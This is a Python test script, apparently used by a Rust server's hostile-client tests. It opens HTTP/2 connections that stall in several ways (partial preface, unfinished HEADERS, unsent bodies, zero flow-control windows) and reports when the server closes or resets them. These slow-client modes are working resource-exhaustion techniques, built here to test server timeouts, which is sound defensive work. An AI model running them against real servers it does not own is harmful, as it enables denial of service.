#!/usr/bin/env python3
"""HTTP/2 clients that hold a server's resources, for crates/cli/tests/hostile.rs.

usage: h2_attacker.py HOST PORT MODE CONNECTIONS STREAMS PATH WAIT_S

Opens CONNECTIONS connections in MODE, then waits up to WAIT_S seconds
for the server to close each, and prints one JSON line: the seconds from
each connection's last byte sent to its close (null: still open).

Modes: half-preface (part of the preface, then nothing); settings-idle
(preface and SETTINGS, then nothing); pri (b"PRI" and nothing); headers
(a HEADERS frame without END_HEADERS, never continued); body (POST PATH
with a Content-Length, the body never sent); zero-window (SETTINGS with
an initial window of 0, STREAMS GETs of PATH, no WINDOW_UPDATE); post-body
(STREAMS POSTs of PATH, each sending 512 B of its body, never ending);
one-live (as zero-window, but stream 1's window opened by 4 KiB every
0.2 s, so the connection moves while the other streams stall: the JSON
line then also has, per connection, the seconds after which each stalled
stream was reset, null for one never reset, and "idle_before_reset",
the seconds from the response's HEADERS on that stream to its reset:
the stream's time without progress as the server saw it, out of the
time the server took to reach the stream's request at all).
HPACK is written by hand (static-table names, literals without indexing):
no library is needed and nothing is compressed.
"""
import json, selectors, socket, struct, sys, time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, value):
    # Literal header field without indexing, name from the static table.
    v = value.encode()
    if index < 15:
        head = bytes([index])
    else:
        head = bytes([0x0F, index - 15])
    assert len(v) < 127
    return head + bytes([len(v)]) + v


def request(method, path, length=None):
    block = (b"\x82" if method == "GET" else b"\x83") + b"\x86" + literal(4, path) + literal(1, "t")
    if length is not None:
        block += literal(28, str(length))
    return block


def settings(window=None):
    payload = b""
    if window is not None:
        payload += struct.pack(">HI", 4, window)  # SETTINGS_INITIAL_WINDOW_SIZE
    return frame(4, 0, 0, payload)


def opening(mode, streams, path):
    if mode == "half-preface":
        return PREFACE[:12]
    if mode == "pri":
        return b"PRI"
    out = PREFACE + settings(0 if mode in ("zero-window", "one-live") else None) + frame(4, 1, 0)
    if mode == "headers":
        return out + frame(1, 0, 1, request("GET", path))  # no END_HEADERS
    if mode == "body":
        return out + frame(1, 4, 1, request("POST", path, 10_000_000))
    if mode in ("zero-window", "one-live"):
        return out + b"".join(frame(1, 5, 2 * i + 1, request("GET", path)) for i in range(streams))
    if mode == "post-body":
        # 512 B a stream: 100 streams stay inside the 65,535-byte
        # connection window a client may use before it hears the server's
        # WINDOW_UPDATE (more is a FLOW_CONTROL_ERROR, and the server
        # closes the connection at once).
        data = b"x" * 512
        reqs = b""
        for i in range(streams):
            sid = 2 * i + 1
            reqs += frame(1, 4, sid, request("POST", path)) + frame(0, 0, sid, data)
        return out + reqs
    if mode == "settings-idle":
        return out
    raise SystemExit(f"unknown mode {mode}")


def idle(resets, heads, sid):
    # null when the stream was never reset or never answered.
    if sid in resets and sid in heads:
        return resets[sid] - heads[sid]
    return None


def main():
    host, port, mode, conns, streams, path, wait = sys.argv[1:8]
    conns, streams, wait = int(conns), int(streams), float(wait)
    sel = selectors.DefaultSelector()
    sent_at = {}
    closed = {}
    socks = []
    for k in range(conns):
        s = socket.create_connection((host, int(port)))
        s.setblocking(False)
        data = opening(mode, streams, path)
        view = memoryview(data)
        end = time.time() + 5
        while view and time.time() < end:
            try:
                n = s.send(view)
                view = view[n:]
            except BlockingIOError:
                time.sleep(0.001)
            except OSError:
                break
        sent_at[k] = time.time()
        sel.register(s, selectors.EVENT_READ, k)
        socks.append(s)
    deadline = time.time() + wait
    resets = {k: {} for k in range(conns)}
    heads = {k: {} for k in range(conns)}
    pending = {k: b"" for k in range(conns)}
    next_open = time.time()
    while len(closed) < conns and time.time() < deadline:
        if mode == "one-live" and time.time() >= next_open:
            next_open = time.time() + 0.2
            grant = struct.pack(">I", 4096)
            for k, s in enumerate(socks):
                if k not in closed:
                    try:
                        s.send(frame(8, 0, 1, grant) + frame(8, 0, 0, grant))
                    except OSError:
                        pass
        for key, _ in sel.select(timeout=0.05):
            k = key.data
            try:
                b = key.fileobj.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                b = b""
            if not b:
                closed[k] = time.time() - sent_at[k]
                sel.unregister(key.fileobj)
                continue
            # RST_STREAM frames, by stream: when the server reset it.
            buf = pending[k] + b
            while len(buf) >= 9:
                n = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + n:
                    break
                sid = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                if buf[3] == 3 and sid not in resets[k]:
                    resets[k][sid] = time.time() - sent_at[k]
                if buf[3] == 1 and sid not in heads[k]:
                    heads[k][sid] = time.time() - sent_at[k]
                buf = buf[9 + n:]
            pending[k] = buf
    out = {"mode": mode, "closed_after": [closed.get(k) for k in range(conns)]}
    if mode == "one-live":
        out["reset_after"] = [[resets[k].get(2 * i + 1) for i in range(1, streams)] for k in range(conns)]
        out["idle_before_reset"] = [
            [idle(resets[k], heads[k], 2 * i + 1) for i in range(1, streams)] for k in range(conns)
        ]
    print(json.dumps(out), flush=True)
    # Keep them open until told (stdin closes), so the caller can measure.
    sys.stdin.read()
    for s in socks:
        s.close()


if __name__ == "__main__":
    main()
